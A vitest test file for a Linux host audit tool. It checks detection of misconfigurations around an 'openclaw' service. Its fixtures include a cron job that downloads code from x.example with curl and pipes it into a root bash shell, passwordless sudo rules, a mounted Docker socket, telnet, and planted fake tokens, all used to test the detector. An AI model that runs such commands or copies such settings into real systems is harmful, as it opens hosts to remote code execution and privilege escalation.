import { lchownSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { machineBelow, thisMachine } from '../host/index.ts'
import { audit, reported, type AuditReport } from './audit.ts'
import { locateSubject } from './locate-subject.ts'
import { checks } from './registry.ts'

const made: string[] = []
afterAll(() => made.forEach((folder) => rmSync(folder, { recursive: true, force: true })))

const state = '/var/lib/openclaw/.openclaw'
const passwd = 'root:x:0:0:root:/root:/bin/bash\nana:x:1000:1000::/home/ana:/bin/bash\nopenclaw:x:998:998::/var/lib/openclaw:/usr/sbin/nologin\n'
const group = 'root:x:0:\nsudo:x:27:ana\nopenclaw:x:998:\n'
const people = { '/etc/passwd': passwd, '/etc/group': group }
const service = { ...people, '/etc/systemd/system/openclaw.service': '[Service]\nUser=openclaw\nExecStart=/usr/bin/openclaw gateway\n', [`${state}/openclaw.json`]: '{}' }

function tree(files: Readonly<Record<string, string>>): string {
  const root = mkdtempSync(join(tmpdir(), 'hardshell-tree-'))
  made.push(root)
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(root + path), { recursive: true, mode: 0o700 })
    writeFileSync(root + path, text, { mode: 0o600 })
  }
  return root
}

async function seen(root: string): Promise<AuditReport> {
  const { subject, others, named } = await locateSubject({ hostRoot: root }, [], { here: thisMachine({}), below: machineBelow }, Date.now())
  return reported(await audit(subject, { checks, suppressions: [], others, named }))
}

const ids = ({ findings }: AuditReport, ...areas: string[]): string[] => findings.map(({ id }) => id).filter((id) => areas.includes(id.split('.')[0]!))

describe('a part of a machine', () => {
  it.each<[string, Readonly<Record<string, string>>, readonly string[]]>([
    ['an empty folder', {}, []],
    ['the rules of sudo', { '/etc/sudoers': 'root ALL=(ALL) ALL\n' }, []],
    ['accounts', people, ['accounts']],
    ['ufw without its defaults and rules', { '/etc/ufw/ufw.conf': 'ENABLED=yes\n' }, []],
    ['sources of apt', { '/etc/apt/sources.list': 'deb https://deb.example x main\n' }, ['updates']],
    ['Fail2Ban', { '/etc/fail2ban/jail.local': '[sshd]\nenabled = true\n', '/etc/ssh/sshd_config': 'PasswordAuthentication no\nKbdInteractiveAuthentication no\nPermitRootLogin no\n' }, ['sshd']],
    ['a job', { '/etc/cron.d/x': '1 1 * * * root true\n' }, ['cron']],
  ])('%s says nothing of the rest', async (_, files, areas) => {
    const report = await seen(tree(files))
    const answered = [...report.passed, ...report.findings.map(({ id }) => id)].map((id) => id.split('.')[0]!)
    expect(new Set(answered.filter((area) => area !== 'versions'))).toEqual(new Set(areas))
    expect(report.findings.filter(({ severity }) => ['critical', 'high', 'medium'].includes(severity))).toEqual([])
  })

  it('tells a switch that is off, and not whether one that is on has its program', async () => {
    const with_ = async (value: string): Promise<AuditReport> => await seen(tree({ '/etc/apt/apt.conf.d/20auto-upgrades': `APT::Periodic::Update-Package-Lists "1";\nAPT::Periodic::Unattended-Upgrade "${value}";\n` }))
    expect(ids(await with_('0'), 'updates')).toEqual(['updates.automatic'])
    expect((await with_('1')).unknown.map(({ id }) => id)).toContain('updates.automatic')
  })

  it('tells a unit that starts, and not what does not', async () => {
    const report = await seen(tree({ '/etc/systemd/system/sockets.target.wants/telnet.socket': '' }))
    expect(ids(report, 'services')).toEqual(['services.no-clear-text-logins'])
    expect(report.unknown.map(({ id }) => id)).toContain('services.time-synced')
  })
})

describe('who owns files of a copy', () => {
  it.each([0, 1000, 4242])('says nothing of the machine: %d', async (uid) => {
    const root = tree({ ...service, '/home/ana/.bashrc': '' })
    for (const path of [state, `${state}/openclaw.json`]) if (process.getuid?.() === 0) lchownSync(root + path, uid, uid)
    expect(ids(await seen(root), 'accounts')).toEqual([])
  })

  it('is told by the home the state lies in', async () => {
    expect(ids(await seen(tree({ ...people, '/root/.openclaw/openclaw.json': '{}' })), 'accounts')).toContain('accounts.openclaw-not-root')
  })
})

describe('faults that hide behind another spelling', () => {
  it.each<[string, Readonly<Record<string, string>>, string, string]>([
    ['sudo by an alias over two lines', { '/etc/sudoers.d/bots': 'User_Alias BOTS = A, openclaw : A = BOTS\nBOTS ALL=(ALL) \\\n NOPASSWD: ALL\n' }, 'accounts.openclaw-no-free-sudo', '/etc/sudoers.d/bots:2'],
    ['sudo that never asks', { '/etc/sudoers.d/x': 'Defaults:openclaw !authenticate\nopenclaw ALL=(ALL) ALL\n' }, 'accounts.openclaw-no-free-sudo', '/etc/sudoers.d/x:2'],
    ['telnet of xinetd', { '/etc/xinetd.d/telnet': 'service telnet\n{\n  disable = no\n  server = /usr/sbin/in.telnetd\n}\n' }, 'services.no-clear-text-logins', 'telnet.inetd'],
    ['the socket of Docker, in the home of somebody', { '/home/ana/openclaw/compose.yaml': 'services:\n  openclaw:\n    image: openclaw\n    volumes: [/var/run/docker.sock:/x]\n' }, 'containers.no-engine-socket', '/home/ana/openclaw/compose.yaml: openclaw'],
    ['fetched code after a filter, as another user', { '/etc/cron.d/x': '1 1 * * * root curl -s http://x.example/a | gunzip 2>&1 | sudo -E -u root bash -\n' }, 'cron.no-fetched-code', '/etc/cron.d/x:1'],
  ])('%s', async (_, files, id, at) => {
    expect((await seen(tree({ ...service, ...files }))).findings.filter((finding) => finding.id === id).map((finding) => finding.at)).toEqual([at])
  })

  it('sudo of an account of its name, where no unit and no state says that it runs there', async () => {
    expect(ids(await seen(tree({ ...people, '/etc/sudoers.d/x': 'openclaw ALL=(ALL) NOPASSWD: ALL\n' })), 'accounts')).toEqual(['accounts.openclaw-no-free-sudo'])
  })

  it('a service of xinetd that is switched off is none', async () => {
    expect(ids(await seen(tree({ '/etc/xinetd.d/telnet': 'service telnet\n{\n  disable = yes\n}\n' })), 'services')).toEqual([])
  })
})

describe('what keeps a reader busy', () => {
  it.each([
    ['a hundred thousand levels', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
    ['a file of agents', JSON.stringify({ agents: { list: Array.from({ length: 100_000 }, (_, i) => ({ id: `a${i}` })) } })],
  ])('%s is told and not followed', async (_, text) => {
    const report = await seen(tree({ ...service, [`${state}/openclaw.json`]: text }))
    expect([...report.problems.map(({ message }) => message), ...report.unknown.map(({ why }) => why)].join('\n')).toMatch(/levels deep|more than 20000 settings|larger than/)
  })

  it('a circle of aliases and a table made of curl end', async () => {
    const aliases = Array.from({ length: 30 }, (_, i) => `User_Alias A${i} = A${i + 1}, A${i + 1}, A${i + 1}`).join('\n')
    const report = await seen(tree({ ...service, '/etc/sudoers': `${aliases}\nUser_Alias A30 = A0, openclaw\nA0 ALL=(ALL) NOPASSWD: ALL\n`, '/etc/cron.d/x': `1 1 * * * root ${'curl '.repeat(100_000)}\n` }))
    expect(ids(report, 'accounts', 'cron')).toEqual(['accounts.openclaw-no-free-sudo'])
  })
})

describe('what is quoted', () => {
  const token = `ghp_${'aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA1bC2'}`

  it('is never a secret', async () => {
    const files = {
      ...service,
      '/etc/sudoers.d/x': `openclaw ALL=(ALL) NOPASSWD: /usr/bin/curl -H ${token}\n`,
      [`${state}/skills/config/mcporter.json`]: '{"a": sk-planted',
      [`${state}/docker-compose.yml`]: 'services:\n openclaw:\n  environment: "sk-planted\n - x: [\n',
      [`${state}/openclaw.json`]: JSON.stringify({ plugins: { entries: { p: { enabled: true } }, installs: { p: { source: 'npm', spec: 'https://u:sk-planted@npm.example/p.tgz' } } } }),
    }
    const report = JSON.stringify(await seen(tree(files)))
    expect(report).toContain('/usr/bin/curl -H [redacted]')
    expect(report).not.toContain(token)
    expect(report).not.toContain('sk-pla')
  })
})

describe('what cannot be read', () => {
  it('is no table without bad jobs where it leads in a circle', async () => {
    const root = tree({ '/etc/cron.d/x': '1 1 * * * root true\n' })
    symlinkSync('loop', `${root}/etc/cron.d/loop`)
    const { unknown, passed } = await seen(root)
    expect(unknown.map(({ id }) => id)).toContain('cron.no-fetched-code')
    expect(passed).not.toContain('cron.no-fetched-code')
  })
})
